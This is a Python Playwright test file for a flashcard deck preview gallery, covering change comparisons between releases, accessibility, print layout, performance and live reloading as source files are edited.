def test_what_changed_is_shown_before_and_now(changed: Path, show: Callable[..., Gallery]) -> None:
    """Only cards that are new, changed or gone, each with what it is in words; and all cards again."""
    gallery = show(changed)
    names = ["one, Cloze 1", "two, Cloze 1, gone", "two, Cloze 3, gone", "three, Cloze 1", "four, Cloze 1"]
    names.append("quiet, Answer")
    assert gallery.shown() == names
    expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text("meeting")
    expect(gallery.before("Back", "one, Cloze 1").locator(".cloze")).to_have_text("joining")
    captions = gallery.card("one, Cloze 1").locator("figcaption").all_inner_texts()
    assert captions == ["Before Front", "Now Front", "Before Back", "Now Back"]
    badges = [gallery.card(name).locator("h2 strong").inner_text() for name in names]
    assert badges == ["Changed", "Gone", "Gone", "Changed", "New", "Changed"]
    expect(gallery.card("two, Cloze 1, gone")).to_contain_text("Learners who have it keep it")
    region = gallery.page.get_by_role("region", name="Changes since 1.0.0")
    expect(region).to_contain_text("Cards: 1 new, 3 changed, 2 gone.")
    assert gallery.count() == "6 cards shown; the deck has 4"
    gallery.changes("Gone (2)")
    expect(gallery.page.locator("#count")).to_have_text("2 cards shown; the deck has 4")
    assert gallery.page.url.endswith("#?since=gone")
    gallery.changes("All cards (4)")
    expect(gallery.page.locator("#count")).to_have_text("4 cards")
    assert "two, Cloze 1, gone" not in gallery.shown()
    gallery.page.get_by_label("Search").fill("joining")
    expect(gallery.page.locator("#count")).to_have_text("1 of 4 cards")


CONTRAST = """e => {
  const light = (color) => {
    const parts = color.match(/[\\d.]+/g).slice(0, 3).map(each => each / 255)
      .map(each => (each <= .04045 ? each / 12.92 : ((each + .055) / 1.055) ** 2.4));
    return .2126 * parts[0] + .7152 * parts[1] + .0722 * parts[2];
  };
  const style = getComputedStyle(e);
  const [dim, bright] = [light(style.color), light(style.backgroundColor)].sort((a, b) => a - b);
  return (bright + .05) / (dim + .05);
}"""
"""How well the text of an element can be read, as WCAG counts it."""


@pytest.mark.parametrize("width", [1400, 360])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_before_stands_beside_now_or_above_it(
    changed: Path, show: Callable[..., Gallery], width: int, scheme: str
) -> None:
    """Beside on a wide screen and above on a narrow one, which nothing makes wider; badges can be read."""
    gallery = show(changed, viewport={"width": width, "height": 900}, color_scheme=scheme)
    expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text("meeting")
    boxes = [each.bounding_box() for each in gallery.card("one, Cloze 1").locator("figure").all()]
    before, now, back, _ = [(box["x"], box["y"]) for box in boxes if box]
    if width > 1000:
        assert (before[1], before[0] < now[0], now[1] < back[1]) == (now[1], True, True)
    else:
        assert (before[0], before[1] < now[1] < back[1]) == (now[0], True)
    assert gallery.page.evaluate("document.documentElement.scrollWidth") == width
    for sort in ("New", "Gone", "Changed"):
        badge = gallery.page.locator(f".badge.{sort.lower()}").first
        expect(badge).to_have_text(sort)
        assert badge.evaluate(CONTRAST) >= 4.5


def test_options_stand_in_one_order_before_and_now(changed: Path, show: Callable[..., Gallery]) -> None:
    """Lots are drawn alike, so that only what changed differs; and otherwise after *Reset*."""
    gallery = show(changed, "#?kind=Vignette")
    before = gallery.before("Front", "quiet, Answer").locator(".choice")
    now = gallery.side("Front", "quiet, Answer").locator(".choice")
    orders = set()
    for _ in range(12):
        expect(now).to_have_count(3)
        expect(before).to_have_count(3)
        order = now.all_inner_texts()
        assert order == before.all_inner_texts()
        orders.add(tuple(order))
        gallery.page.get_by_role("button", name="Reset").click()
        gallery.page.wait_for_timeout(200)
    assert len(orders) > 1


def test_each_version_has_its_own_files_and_css(changed: Path, show: Callable[..., Gallery]) -> None:
    """A replaced image and a changed look: before has the old ones, now the new ones, also on paper."""
    change(changed, {"templates/base/theme.css.j2": ".card { --ink: rgb(1, 2, 3); }"})
    gallery = show(since(changed), "#?since=changed&q=three")
    name = "three, Cloze 1"
    color = "e => getComputedStyle(e.closest('.face') ?? e).color"
    pixel = """async e => {
      await e.decode();
      const canvas = document.createElement("canvas").getContext("2d");
      canvas.drawImage(e, 0, 0);
      return [...canvas.getImageData(0, 0, 1, 1).data];
    }"""
    versions = [gallery.before("Front", name), gallery.side("Front", name)]
    old, new = [each.locator("img[src^='blob:']").evaluate(pixel) for each in versions]
    assert old != new
    old, new = [each.locator(".face").evaluate(color) for each in versions]
    assert old != new == "rgb(1, 2, 3)"
    gallery.page.evaluate("() => { window.print = () => { window.printing = true; }; }")
    gallery.page.get_by_role("button", name="Print").click()
    assert gallery.until("window.printing")
    gallery.page.emulate_media(media="print")
    paper = gallery.page.locator("#paper article")
    expect(paper).to_have_count(1)
    expect(paper).to_contain_text("three, Cloze 1 (Changed)")
    sides = paper.locator(".sides")
    assert sides.locator("> p").all_inner_texts() == ["Before", "Now"]
    one, two = [each.bounding_box() for each in sides.all()]
    assert one
    assert two
    assert (one["y"], one["x"] < two["x"]) == (two["y"], True)
    fronts = [each.locator(".front-side") for each in sides.all()]
    old, new = [each.locator(".face").evaluate(color) for each in fronts]
    assert old != new == "rgb(1, 2, 3)"
    old, new = [each.locator("img[src^='blob:']").evaluate(pixel) for each in fronts]
    assert old != new


def test_a_comparison_is_read_without_a_mouse_or_eyes(changed: Path, show: Callable[..., Gallery]) -> None:
    """One side at a time, a key turns both versions; headings, figures and frames say what they are."""
    gallery = show(changed, "#?single=1")
    before, now = gallery.before("Card", "one, Cloze 1"), gallery.side("Card", "one, Cloze 1")
    card = gallery.card("one, Cloze 1")
    expect(now.locator(".cloze")).to_have_text("[...]")
    expect(card.get_by_role("button", name="Show answer")).to_have_count(1)
    gallery.page.keyboard.press("j")
    expect(card.get_by_role("link", name="one", exact=True)).to_be_focused()
    gallery.page.keyboard.press("Space")
    expect(now.locator(".cloze")).to_have_text("meeting")
    expect(before.locator(".cloze")).to_have_text("joining")
    assert card.get_by_role("heading").inner_text() == "one Cloze 1 Changed"
    figures = card.get_by_role("figure").all()
    assert [each.inner_text().split()[0] for each in figures] == ["Before", "Now"]
    gallery.page.get_by_role("combobox", name="Changes", exact=True).focus()
    gallery.page.keyboard.press("End")
    expect(gallery.page.locator("#count")).to_have_text("4 cards")


def test_that_nothing_changed_is_said(changed: Path, show: Callable[..., Gallery]) -> None:
    """And where all cards are."""
    release(changed, "1.1.0", FIRST + 1000)
    gallery = show(since(changed))
    expect(gallery.page.locator("#empty")).to_have_text(
        "No cards changed since 1.1.0. To see the deck, choose “All cards” under Changes."
    )
    gallery.changes("All cards (4)")
    expect(gallery.page.locator("#count")).to_have_text("4 cards")


def test_ten_thousand_changed_cards_stay_quick(
    many: Path, tmp_path: Path, show: Callable[..., Gallery]
) -> None:
    """After a change of the look of them all; the bounds are some five times what was measured."""
    old = Since(Side("1.0.0", of_build(build(many))), None)
    shutil.copytree(many / "source", tmp_path / "source")
    change(tmp_path, {"templates/base/theme.css.j2": ".card { --ink: rgb(1, 2, 3); }", "build/x": ""})
    newer = build(tmp_path)
    folder.write(old.compared(cards.gallery(newer), newer), tmp_path / "build/preview")
    started = time.monotonic()
    gallery = show(tmp_path)
    expect(gallery.before("Front", "takeaway-0, Cloze 1").locator("#qa")).to_contain_text("[...]")
    assert time.monotonic() - started < 5
    assert gallery.count() == "15,000 cards shown; the deck has 15,000"
    assert gallery.page.locator("iframe").count() < 40
    started = time.monotonic()
    gallery.page.evaluate("location.hash = '#definition-9870'")
    expect(gallery.before("Back", "definition-9870, Recall").locator(".face")).to_be_visible()
    assert time.monotonic() - started < 5


# Following the source


def long_deck() -> str:
    """Forty notes, so that there is something to scroll."""
    notes = [
        f"  - id: n{number}\n    text: |\n      The {{{{c1::word{number}}}}} of it.\n" for number in range(40)
    ]
    return "takeaways:\n" + "".join(notes)


@pytest.mark.parametrize("slow", [1, 15])
def test_a_change_redraws_its_card_alone_and_keeps_the_spot(
    live: Callable[..., tuple[Path, Gallery]], slow: int
) -> None:
    """The card is new at once; others keep their frames, the page its spot, filter and address."""
    deck, gallery = live({"source/one.yaml": long_deck()}, "#n20?kind=Takeaway", slow=slow)
    name = "n20, Cloze 1"
    expect(gallery.side("Back", name).locator(".cloze")).to_have_text("word20")
    gallery.page.wait_for_timeout(600)
    gallery.page.evaluate("document.querySelectorAll('iframe').forEach(frame => { frame.stays = true; })")
    before = gallery.card(name).evaluate("e => e.getBoundingClientRect().top")
    assert 0 <= before < 200
    address = gallery.page.url
    added = "takeaways:\n  - id: new\n    text: |\n      A {{c1::first}} note.\n"
    text = long_deck().replace("word20", "WORD20").replace("takeaways:\n", added)
    change(deck, {"source/one.yaml": text})
    expect(gallery.side("Back", name).locator(".cloze")).to_have_text("WORD20", timeout=20_000)
    expect(gallery.page.locator("#count")).to_have_text("41 cards")
    assert gallery.page.url == address
    assert abs(gallery.card(name).evaluate("e => e.getBoundingClientRect().top") - before) < 3
    for each in ("n20", "n21"):
        frame = gallery.page.locator(f'iframe[title="Back of {each}, Cloze 1"]')
        assert frame.evaluate("e => e.stays") is True


def test_a_turned_card_stays_turned(live: Callable[..., tuple[Path, Gallery]]) -> None:
    """A card whose back is in view shows its back after a change."""
    deck, gallery = live({"source/one.yaml": CHAPTER}, "#?single=1")
    card = gallery.side("Card", "one, Cloze 1")
    gallery.page.get_by_role("button", name="Show answer").click()
    expect(card.locator(".cloze")).to_have_text("joining")
    change(deck, {"source/one.yaml": CHAPTER.replace("joining", "meeting")})
    expect(card.locator(".cloze")).to_have_text("meeting")
    change(deck, {"templates/base/theme.css.j2": ".card { --ink: rgb(1, 2, 3); }"})
    expect(card.locator(".face")).to_have_css("color", "rgb(1, 2, 3)")
    expect(card.locator(".cloze")).to_have_text("meeting")


def test_a_fault_lies_over_the_page_until_it_is_mended(live: Callable[..., tuple[Path, Gallery]]) -> None:
    """The overlay names code and place, can be closed, does not come back unasked, and goes by itself."""
    deck, gallery = live({"source/one.yaml": SECOND})
    overlay = gallery.page.get_by_role("alert")
    expect(gallery.side("Front", "two, Cloze 1").locator("#qa")).to_be_visible()
    expect(overlay).to_have_count(0)
    broken = SECOND.replace("    text: |\n      A", "    txt: |\n      A")
    change(deck, {"source/one.yaml": broken})
    expect(overlay).to_contain_text("error[unknown-key]")
    expect(overlay).to_contain_text("source/one.yaml:8:5")
    expect(gallery.card("two, Cloze 1").get_by_text(LAST_GOOD)).to_be_visible()
    overlay.get_by_role("button", name="Close").click()
    expect(overlay).to_have_count(0)
    change(deck, {"source/one.yaml": broken.replace("Nobody", "No one")})
    expect(gallery.side("Back", "one, Cloze 1").locator("#qa")).to_contain_text("No one follows")
    expect(overlay).to_have_count(0)
    change(deck, {"source/one.yaml": SECOND})
    expect(gallery.page.get_by_text(LAST_GOOD)).to_have_count(0)
    change(deck, {"source/one.yaml": broken})
    expect(overlay).to_contain_text("error[unknown-key]")
    change(deck, {"source/one.yaml": SECOND})
    expect(overlay).to_have_count(0)


def test_the_comparison_with_a_release_stays_while_one_writes(
    live: Callable[..., tuple[Path, Gallery]],
) -> None:
    """A saved change comes in beside what was released, and goes with its undoing; an error hides nothing."""
    deck, gallery = live({"source/one.yaml": SECOND}, released=True)
    expect(gallery.page.locator("#empty")).to_contain_text("No cards changed since 1.0.0.")
    before = gallery.before("Back", "one, Cloze 1")
    for word in ("meeting", "greeting"):
        change(deck, {"source/one.yaml": SECOND.replace("joining", word)})
        expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text(word)
        expect(before.locator(".cloze")).to_have_text("joining")
    broken = SECOND.replace("joining", "greeting").replace("text: |\n      Before", "txet: |\n      Before")
    change(deck, {"source/one.yaml": broken})
    expect(gallery.page.get_by_role("alert")).to_contain_text("error[unknown-key]")
    expect(gallery.card("one, Cloze 1").get_by_text(LAST_GOOD)).to_be_visible()
    expect(before.locator(".cloze")).to_have_text("joining")
    gallery.changes("All cards (3)")
    change(deck, {"source/one.yaml": SECOND})
    expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text("joining")
    expect(gallery.page.locator("iframe[title$=', before']")).to_have_count(0)
    assert gallery.shown() == ["one, Cloze 1", "two, Cloze 1", "two, Cloze 3"]
    change(deck, {"source/one.yaml": SECOND + "    retired: It was wrong.\n"})
    expect(gallery.page.locator("#count")).to_have_text("1 card")
    gallery.changes("All changes (2)")
    expect(gallery.card("two, Cloze 3, gone")).to_be_visible()


def test_a_page_that_follows_has_what_is_in_the_source(live: Callable[..., tuple[Path, Gallery]]) -> None:
    """After notes and chapters came, changed and went, also while an earlier save is still being taken up."""
    deck, gallery = live({"source/one.yaml": long_deck()})
    box, place = gallery.page.locator("#q"), gallery.page.locator("#place")

    def check() -> None:
        source = "".join(path.read_text("utf-8") for path in (deck / "source").glob("*.yaml"))
        notes = re.findall(r"- id: (\S+)\n    text: \|\n      (.*)\n", source)
        expect(gallery.page.locator("#count")).to_have_text(f"{len(notes)} cards")
        for word in ("word3", "word33", "added", "m7", "n0"):
            box.fill(word)
            count = sum(word in name or word in text for name, text in notes)
            expect(place).to_have_text(re.compile(rf"\d of {count}"))
        box.fill("")

    steps: list[dict[str, str | bytes]] = [
        {"source/one.yaml": long_deck().replace("word5", "word3 5")},
        {"source/two.yaml": long_deck().replace("id: n", "id: m")},
        {"source/two.yaml": "takeaways:\n  - id: last\n    text: |\n      The {{c1::word33}} of it.\n"},
        {"source/one.yaml": long_deck().replace("  - id: n0\n", "  - id: added\n", 1)},
    ]
    for step in steps:
        change(deck, step)
        check()
    for step in steps:
        change(deck, step)
        gallery.page.wait_for_timeout(60)
    check()


def test_a_change_is_seen_within_half_a_second(live: Callable[..., tuple[Path, Gallery]]) -> None:
    """At a thousand notes, from the save to both sides drawn; the best of some, as others work too.

    Of the time 0.16 seconds are the build's. On a machine that is slower, or busy, it may take as much longer
    as the build does; some 0.4 seconds were measured, and twice that is the bound.
    """
    deck, gallery = live(count=1000)
    expect(gallery.side("Back", "takeaway-0, Cloze 1").locator("#qa")).to_be_visible()
    gallery.page.wait_for_timeout(1000)
    gallery.page.evaluate(
        "document.querySelector('article').addEventListener('drawn', () => { window.drawn = Date.now(); })"
    )
    path = deck / "source/0000.yaml"
    text = path.read_text("utf-8")
    took, builds = [], []
    for number in range(5):
        gallery.page.evaluate("window.drawn = 0")
        started = time.time()
        path.write_text(text.replace("why: |\n      ", f"why: |\n      needle{number} ", 1), "utf-8")
        took.append(gallery.until("window.drawn") / 1000 - started)
        started = time.monotonic()
        build(deck)
        builds.append(time.monotonic() - started)
    expect(gallery.side("Back", "takeaway-0, Cloze 1").locator("#qa")).to_contain_text("needle4")
    assert min(took) < max(0.5, 5 * min(builds)), (took, builds)


def test_a_page_finds_its_server_again(tmp_path: Path, show: Callable[..., Gallery]) -> None:
    """After the server was away, the page follows the new one."""
    deck = write_project(tmp_path / "deck")
    port = free_port()
    with serving(deck, port):
        gallery = show(f"http://127.0.0.1:{port}/")
        expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text("joining")
    change(deck, {"source/one.yaml": CHAPTER.replace("joining", "meeting")})
    with serving(deck, port):
        expect(gallery.side("Back", "one, Cloze 1").locator(".cloze")).to_have_text("meeting", timeout=20_000)
